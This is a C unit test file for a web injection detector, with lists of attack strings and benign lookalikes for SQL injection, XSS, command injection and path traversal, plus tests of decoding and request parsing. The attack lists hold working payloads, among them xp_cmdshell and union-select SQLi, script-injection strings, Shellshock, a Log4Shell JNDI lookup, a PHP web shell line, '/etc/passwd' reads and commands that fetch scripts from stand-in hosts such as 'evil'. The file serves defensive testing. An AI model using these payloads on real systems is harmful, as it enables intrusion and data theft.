@@ -1,0 +1,440 @@
+/* Unit tests for the injection detector: each decoder, each tokeniser, the
+ * verdict and the request splitter, with the tricky attack shapes found and
+ * the benign lookalikes that must stay clean. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "detect_int.h"
+
+static mm_detect_config_t cfg;
+static uint8_t scratch_buf[1 << 16];
+static mm_detect_scratch_t scratch = {scratch_buf, sizeof scratch_buf};
+
+static mm_detect_class_t judge(const char *s)
+{
+    mm_detect_verdict_t v;
+    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
+    return v.cls;
+}
+
+static const char *decode(const char *in, bool plus, unsigned *flags)
+{
+    static uint8_t a[4096], b[4096];
+    static char out[4096];
+    const uint8_t *res;
+    *flags = 0;
+    size_t n = mm_detect_decode((const uint8_t *)in, strlen(in), a, b, plus, 4, flags, &res);
+    memcpy(out, res, n);
+    out[n] = 0;
+    return out;
+}
+
+static void test_decode_url(void **state)
+{
+    (void)state;
+    unsigned f;
+    assert_string_equal(decode("%3Cscript%3E", false, &f), "<script>");
+    assert_true(f & MM_DETECT_DEC_URL);
+    assert_string_equal(decode("%253Cx", false, &f), "<x");
+    assert_true(f & MM_DETECT_DEC_URL_MULTI);
+    assert_string_equal(decode("a+b", true, &f), "a b");
+    assert_true(f & MM_DETECT_DEC_PLUS);
+    assert_string_equal(decode("a+b", false, &f), "a+b");
+    /* '+' decoded from %2B is not a space on the next pass. */
+    assert_string_equal(decode("1%2B1", true, &f), "1+1");
+    /* Invalid escapes stay as they are. */
+    assert_string_equal(decode("100% sure %zz %", false, &f), "100% sure %zz %");
+    assert_string_equal(decode("%u003cb", false, &f), "<b");
+    assert_true(f & MM_DETECT_DEC_PCT_U);
+    assert_string_equal(decode("a%00b", false, &f), "ab");
+    assert_true(f & MM_DETECT_DEC_NUL);
+}
+
+static void test_decode_html(void **state)
+{
+    (void)state;
+    unsigned f;
+    assert_string_equal(decode("&lt;b&gt;", false, &f), "<b>");
+    assert_true(f & MM_DETECT_DEC_HTML);
+    assert_string_equal(decode("&#60;&#x3C;&#X3c;&#0000060", false, &f), "<<<<");
+    assert_string_equal(decode("&ltscript", false, &f), "<script");
+    assert_string_equal(decode("java&Tab;script&colon;", false, &f), "java\tscript:");
+    /* Not references: left alone. */
+    assert_string_equal(decode("AT&T R&D a=1&b=2 &copy", false, &f), "AT&T R&D a=1&b=2 &copy");
+    assert_string_equal(decode("Tom &amp; Jerry", false, &f), "Tom & Jerry");
+}
+
+static void test_decode_escapes(void **state)
+{
+    (void)state;
+    unsigned f;
+    assert_string_equal(decode("\\x3cimg\\u003e\\u{2f}\\074", false, &f), "<img>/<");
+    assert_true(f & MM_DETECT_DEC_ESCAPE);
+    /* Windows paths keep their backslashes. */
+    assert_string_equal(decode("C:\\Users\\me\\x.txt", false, &f), "C:\\Users\\me\\x.txt");
+}
+
+static void test_decode_utf8(void **state)
+{
+    (void)state;
+    unsigned f;
+    assert_string_equal(decode("%c0%ae%c0%ae%c0%af", false, &f), "../");
+    assert_true(f & MM_DETECT_DEC_OVERLONG);
+    assert_string_equal(decode("%e0%80%af", false, &f), "/");
+    assert_string_equal(decode("%uff0e%uff0e%u2215", false, &f), "../");
+    assert_true(f & MM_DETECT_DEC_FULLWIDTH);
+    assert_string_equal(decode("%c0%5c", false, &f), "\\");
+    /* Valid UTF-8 text is untouched. */
+    assert_string_equal(decode("Shōgun – café", false, &f), "Shōgun – café");
+    assert_int_equal(f & (MM_DETECT_DEC_OVERLONG | MM_DETECT_DEC_FULLWIDTH), 0);
+}
+
+static void test_decode_never_grows(void **state)
+{
+    (void)state;
+    static const char *const in[] = {"&#x10FFFF;", "\\u{10ffff}", "%uFFFF", "&nbsp", "&#1;", "\\u0000"};
+    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
+        uint8_t out[64];
+        unsigned f = 0;
+        bool ch;
+        size_t n = mm_detect_decode_pass((const uint8_t *)in[i], strlen(in[i]), out, MM_DETECT_PASS_ALL, &f, &ch);
+        assert_true(n <= strlen(in[i]));
+    }
+}
+
+static int sqli(const char *s)
+{
+    mm_detect_hit_t h;
+    unsigned f = 0;
+    return mm_detect_sqli((const uint8_t *)s, strlen(s), &h, &f);
+}
+
+static void test_sqli_shapes(void **state)
+{
+    (void)state;
+    static const char *const attacks[] = {
+        "' or '1'='1", "admin'--", "admin' #", "1 or 1=1", "1' and 1=1 -- ",
+        "-1 union all select null,version()--", "1; drop table users", "'; exec master..xp_cmdshell 'dir'--",
+        "1 and sleep(5)", "' and extractvalue(1,concat(0x7e,version()))#", "1 AND 1=CONVERT(int,@@version)",
+        "'; waitfor delay '0:0:5'--", "1' order by 3--", "x' into outfile '/tmp/x", "') or ('a'='a",
+        "1 /*!50000union*/ /*!50000select*/ 1,2", "1)) or pg_sleep(5)--", "' || utl_inaddr.get_host_name((select user from dual)) || '",
+        "(select 1 from information_schema.tables)", "HOPE AND -8=3", "select current_setting('hba_file')",
+        "; insert into users (name) values ('x')", " ORDER BY 6--", "1' group by 1,2--",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+        if (sqli(attacks[i]) < 50)
+            fail_msg("missed sqli: %s", attacks[i]);
+    }
+}
+
+static void test_sqli_lookalikes(void **state)
+{
+    (void)state;
+    static const char *const benign[] = {
+        "O'Brien", "Tom and Jerry", "rock'n'roll", "it's either all or nothing", "600 or 601",
+        "\"foo\" AND \"bar\"", "select one from the menu", "Select your size", "I'd say 'order by' is fine",
+        "1/4\"-1/2\" wide ribbon", "my--slugified-url", "#hashtag and more", "can't won't don't",
+        "Bonnie and Clyde (1967)", "a < b and c > d", "https://example.com/guide#section=intro",
+        "Union Jack", "drop the table cloth", "12.5 x 12.5\"",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
+        if (sqli(benign[i]) >= 50)
+            fail_msg("false sqli: %s (%d)", benign[i], sqli(benign[i]));
+    }
+}
+
+static int xss(const char *s)
+{
+    mm_detect_hit_t h;
+    return mm_detect_xss((const uint8_t *)s, strlen(s), &h);
+}
+
+static void test_xss_shapes(void **state)
+{
+    (void)state;
+    static const char *const attacks[] = {
+        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+        "\"><svg onload=prompt(1)>", "<a href=\"java\tscript:alert(1)\">x</a>", "<iframe src=//evil>",
+        "\" onmouseover=\"alert(1)", "';alert(String.fromCharCode(88,83,83))//", "<ScRiPt >x",
+        "<div style=\"width:expression(alert(1))\">", "<object data=\"data:text/html,<script>\">",
+        "javascript:alert(document.cookie)", "<x onclick=confirm`1`>", "<<script>alert(1);//<</script>",
+        "<math><maction xlink:href=\"javascript:alert(1)\">", "alert(1)",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+        if (xss(attacks[i]) < 50)
+            fail_msg("missed xss: %s", attacks[i]);
+    }
+}
+
+static void test_xss_lookalikes(void **state)
+{
+    (void)state;
+    static const char *const benign[] = {
+        "a < b", "if x<3 and y>2", "<3 you", "<b>bold</b> and <i>it</i>", "online=yes",
+        "the onion=tasty", "Javascript: The Good Parts", "I love <you>", "email <me@example.org>",
+        "see the document. It helps", "<?xml version=\"1.0\"?><svg></svg>",
+        "the log likelihood\"), because the logarithm is an increasing function.",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
+        if (xss(benign[i]) >= 50)
+            fail_msg("false xss: %s (%d)", benign[i], xss(benign[i]));
+    }
+}
+
+static int cmdi(const char *s)
+{
+    mm_detect_hit_t h;
+    unsigned f = 0;
+    return mm_detect_cmdi((const uint8_t *)s, strlen(s), &h, &f);
+}
+
+static void test_cmdi_shapes(void **state)
+{
+    (void)state;
+    static const char *const attacks[] = {
+        "; id", "| whoami", "&& cat /etc/passwd", "`uname -a`", "$(curl http://x/y.sh)",
+        "127.0.0.1; ls -la", "a;w'h'o\"a\"mi", "cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd",
+        "() { :;}; /bin/bash -c id", "\n/usr/bin/id", "| net user hacker P /add", "; sleep 5",
+        "& ping -n 30 127.0.0.1 &", "cat /etc/hosts", "ls -l /home", "wget http://evil/x.sh",
+        "FOR /F %a IN (x) DO echo", "IF EXIST c:\\x.txt echo", "';system('id');//", "<?php system($_GET['c']); ?>",
+        "<!--#exec cmd=\"/bin/id\"-->", "${jndi:ldap://evil/a}", "{cat,/etc/passwd}", "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?",
+        "|| c:\\windows\\system32\\cmd.exe /c dir", "; powershell -enc AAA", "time curl example.org",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+        if (cmdi(attacks[i]) < 50)
+            fail_msg("missed cmdi: %s (%d)", attacks[i], cmdi(attacks[i]));
+    }
+}
+
+static void test_cmdi_lookalikes(void **state)
+{
+    (void)state;
+    static const char *const benign[] = {
+        "cats | dogs", "Tom && Jerry", "Salt & Pepper", "rock & roll", "Date & Time", "this | more",
+        "I use curl daily", "Find the cat", "Python is great", "a=1&b=2&c=3", "foo|bar", ";environment",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Firefox/24.0", "Q&A", "black & white",
+        "If not now, when?", "for the record; who knows", "sleep well & dream", "echo chamber",
+        "{\"a\":[{},{}]}", "Type the words", "Time - the movie",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
+        if (cmdi(benign[i]) >= 50)
+            fail_msg("false cmdi: %s (%d)", benign[i], cmdi(benign[i]));
+    }
+}
+
+static int trav(const char *s)
+{
+    mm_detect_hit_t h;
+    return mm_detect_traversal((const uint8_t *)s, strlen(s), &h);
+}
+
+static void test_traversal_shapes(void **state)
+{
+    (void)state;
+    static const char *const attacks[] = {
+        "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/../../etc/shadow", "....//....//etc/passwd",
+        "..;/..;/WEB-INF/web.xml", "file:///etc/passwd", "/etc/passwd", "C:\\boot.ini", "../boot.ini",
+        "page=../../../x", "0x2e0x2e/0x2e0x2e/etc", "..%9v..%9v..%9vboot.ini", "a/b/../../../c",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+        if (trav(attacks[i]) < 50)
+            fail_msg("missed traversal: %s (%d)", attacks[i], trav(attacks[i]));
+    }
+}
+
+static void test_traversal_lookalikes(void **state)
+{
+    (void)state;
+    static const char *const benign[] = {
+        "see ../docs for details", "Wait... what... no...", "/files/bingerpc.py", "/blog/tags/site?page=3",
+        "v1.2..v1.3", "Hmm.. ok.. sure..", "etc. passwords are secret", "a/b/../c",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
+        if (trav(benign[i]) >= 50)
+            fail_msg("false traversal: %s (%d)", benign[i], trav(benign[i]));
+    }
+}
+
+static void test_verdict(void **state)
+{
+    (void)state;
+    mm_detect_verdict_t v;
+    const char *s = "1%27%20or%20%271%27%3D%271";
+    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
+    assert_int_equal(v.cls, MM_DETECT_SQLI);
+    assert_true(v.score >= cfg.threshold);
+    assert_true(v.decodings & MM_DETECT_DEC_URL);
+    assert_non_null(strstr(v.evidence, "sqli rule="));
+    assert_non_null(strstr(v.evidence, "decoded=url"));
+    assert_non_null(strstr(v.fragment, "or '1'='1"));
+    assert_int_equal(judge("%3Cscript%3Ealert(1)%3C/script%3E"), MM_DETECT_XSS);
+    assert_int_equal(judge("; cat /etc/passwd"), MM_DETECT_CMDI);
+    assert_int_equal(judge("..%2f..%2f..%2fetc%2fpasswd"), MM_DETECT_TRAVERSAL);
+    assert_int_equal(judge("hello world"), MM_DETECT_NONE);
+    assert_int_equal(judge(""), MM_DETECT_NONE);
+
+    /* Sensitivity 0 skips a location; a higher threshold lets a value pass. */
+    mm_detect_config_t c2 = cfg;
+    c2.sensitivity[MM_DETECT_LOC_HEADER] = 0;
+    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_HEADER, NULL, &scratch, &v), 0);
+    assert_int_equal(v.cls, MM_DETECT_NONE);
+    c2 = cfg;
+    c2.threshold = 101;
+    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
+    assert_int_equal(v.cls, MM_DETECT_NONE);
+    assert_true(v.score > 0);
+    c2 = cfg;
+    c2.enabled[MM_DETECT_SQLI] = false;
+    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
+    assert_int_equal(v.scores[MM_DETECT_SQLI], 0);
+
+    /* Errors and limits. */
+    assert_int_equal(mm_detect_value(NULL, s, 1, MM_DETECT_LOC_QUERY, NULL, &scratch, &v), -EINVAL);
+    uint8_t tiny[16];
+    mm_detect_scratch_t small = {tiny, sizeof tiny};
+    assert_int_equal(mm_detect_value(&cfg, s, 1, MM_DETECT_LOC_QUERY, NULL, &small, &v), -ENOBUFS);
+    uint8_t mid[164];
+    mm_detect_scratch_t half = {mid, sizeof mid};
+    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &half, &v), 0);
+    assert_int_equal(v.inspected, strlen(s));
+    char big[400];
+    memset(big, 'a', sizeof big);
+    assert_int_equal(mm_detect_value(&cfg, big, sizeof big, MM_DETECT_LOC_QUERY, NULL, &half, &v), 0);
+    assert_true(v.truncated);
+    assert_int_equal(v.inspected, 50);
+
+    char buf[128];
+    assert_string_equal(mm_detect_decodings_str(0, buf, sizeof buf), "none");
+    assert_string_equal(mm_detect_decodings_str(MM_DETECT_DEC_URL | MM_DETECT_DEC_HTML, buf, sizeof buf), "url,html");
+    assert_string_equal(mm_detect_class_name(MM_DETECT_TRAVERSAL), "traversal");
+    assert_string_equal(mm_detect_loc_name(MM_DETECT_LOC_JSON), "json");
+}
+
+static void test_request(void **state)
+{
+    (void)state;
+    static uint8_t sbuf[1 << 16];
+    mm_detect_scratch_t sc = {sbuf, sizeof sbuf};
+    const char *body = "{\"user\":{\"name\":\"O'Brien\",\"tags\":[\"a\",\"<img src=x onerror=alert(1)>\"]},"
+                       "\"q\":\"1\\u0027 or \\u00271\\u0027=\\u00271\",\"n\":12}";
+    mm_detect_header_t hd[] = {
+        {"Content-Type", 12, "application/json", 16},
+        {"User-Agent", 10, "() { :;}; /bin/bash -c id", 25},
+        {"Cookie", 6, "sid=abc; pref=..%2f..%2f..%2fetc%2fpasswd", 41},
+        {"Accept", 6, "<script>", 8},
+    };
+    mm_detect_request_t rq = {0};
+    rq.target = "/shop/items?page=2&sort=name&q=cats+%7C+dogs&id=1%20union%20select%201,2#frag";
+    rq.target_len = strlen(rq.target);
+    rq.headers = hd;
+    rq.n_headers = 4;
+    rq.body = body;
+    rq.body_len = strlen(body);
+    mm_detect_finding_t f[8];
+    size_t nf, nv;
+    mm_detect_verdict_t worst;
+    assert_int_equal(mm_detect_request(&cfg, &rq, &sc, f, 8, &nf, &nv, &worst), 0);
+    assert_int_equal(nf, 5);
+    assert_int_equal(f[0].loc, MM_DETECT_LOC_QUERY);
+    assert_int_equal(f[0].verdict.cls, MM_DETECT_SQLI);
+    assert_int_equal(f[0].name_len, 2);
+    assert_memory_equal(f[0].name, "id", 2);
+    assert_int_equal(f[1].loc, MM_DETECT_LOC_HEADER);
+    assert_int_equal(f[1].verdict.cls, MM_DETECT_CMDI);
+    assert_int_equal(f[2].loc, MM_DETECT_LOC_COOKIE);
+    assert_int_equal(f[2].verdict.cls, MM_DETECT_TRAVERSAL);
+    assert_int_equal(f[3].loc, MM_DETECT_LOC_JSON);
+    assert_int_equal(f[3].verdict.cls, MM_DETECT_XSS);
+    assert_int_equal(f[4].loc, MM_DETECT_LOC_JSON);
+    assert_int_equal(f[4].verdict.cls, MM_DETECT_SQLI);
+    assert_true(f[4].verdict.decodings & MM_DETECT_DEC_JSON);
+    assert_true(worst.score >= 75);
+    /* path, 4 query values, UA, 2 cookies, 6 JSON strings ("a" too) */
+    assert_true(nv >= 12);
+
+    /* Forms and multipart. */
+    const char *form = "a=1&b=%3Csvg%2Fonload%3Dalert(1)%3E";
+    mm_detect_header_t fh[] = {{"content-type", 12, "application/x-www-form-urlencoded", 33}};
+    mm_detect_request_t fr = {.target = "/", .target_len = 1, .headers = fh, .n_headers = 1,
+                              .body = form, .body_len = strlen(form)};
+    assert_int_equal(mm_detect_request(&cfg, &fr, &sc, f, 8, &nf, &nv, NULL), 0);
+    assert_int_equal(nf, 1);
+    assert_int_equal(f[0].loc, MM_DETECT_LOC_FORM);
+    const char *mp = "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; cat /etc/passwd\r\n"
+                     "--XyZ\r\nContent-Disposition: form-data; name=\"ok\"\r\n\r\nhello\r\n--XyZ--\r\n";
+    mm_detect_request_t mr = {.target = "/up", .target_len = 3, .body = mp, .body_len = strlen(mp),
+                              .content_type = "multipart/form-data; boundary=XyZ"};
+    assert_int_equal(mm_detect_request(&cfg, &mr, &sc, f, 8, &nf, &nv, NULL), 0);
+    assert_int_equal(nf, 1);
+    assert_int_equal(f[0].verdict.cls, MM_DETECT_CMDI);
+    assert_memory_equal(f[0].name, "cmd", 3);
+
+    /* Findings beyond max are counted, not written. */
+    assert_int_equal(mm_detect_request(&cfg, &rq, &sc, f, 1, &nf, &nv, NULL), 0);
+    assert_int_equal(nf, 5);
+    assert_int_equal(mm_detect_request(&cfg, NULL, &sc, f, 1, &nf, &nv, NULL), -EINVAL);
+}
+
+/* Reads a corpus file from ../shared when present and checks the detector
+ * catches most of it; skipped (by name) when the shared directory is absent. */
+static void test_shared_corpus(void **state)
+{
+    (void)state;
+    const char *dir = getenv("MM_SHARED_DIR");
+    char path[4096];
+    snprintf(path, sizeof path, "%s/security-corpus/sqli.txt", dir ? dir : "../shared");
+    FILE *fp = fopen(path, "r");
+    if (!fp) {
+        print_message("skipped test_shared_corpus: %s not found\n", path);
+        skip();
+    }
+    char line[4096];
+    size_t n = 0, hit = 0;
+    while (fgets(line, sizeof line, fp)) {
+        line[strcspn(line, "\n")] = 0;
+        if (!line[0])
+            continue;
+        n++;
+        hit += judge(line) != MM_DETECT_NONE;
+    }
+    fclose(fp);
+    assert_true(n > 0);
+    assert_true(hit * 100 >= n * 80);
+}
+
+static int setup(void **state)
+{
+    (void)state;
+    mm_detect_config_init(&cfg);
+    return 0;
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_decode_url),
+        cmocka_unit_test(test_decode_html),
+        cmocka_unit_test(test_decode_escapes),
+        cmocka_unit_test(test_decode_utf8),
+        cmocka_unit_test(test_decode_never_grows),
+        cmocka_unit_test(test_sqli_shapes),
+        cmocka_unit_test(test_sqli_lookalikes),
+        cmocka_unit_test(test_xss_shapes),
+        cmocka_unit_test(test_xss_lookalikes),
+        cmocka_unit_test(test_cmdi_shapes),
+        cmocka_unit_test(test_cmdi_lookalikes),
+        cmocka_unit_test(test_traversal_shapes),
+        cmocka_unit_test(test_traversal_lookalikes),
+        cmocka_unit_test(test_verdict),
+        cmocka_unit_test(test_request),
+        cmocka_unit_test(test_shared_corpus),
+    };
+    return cmocka_run_group_tests(tests, setup, NULL);
+}
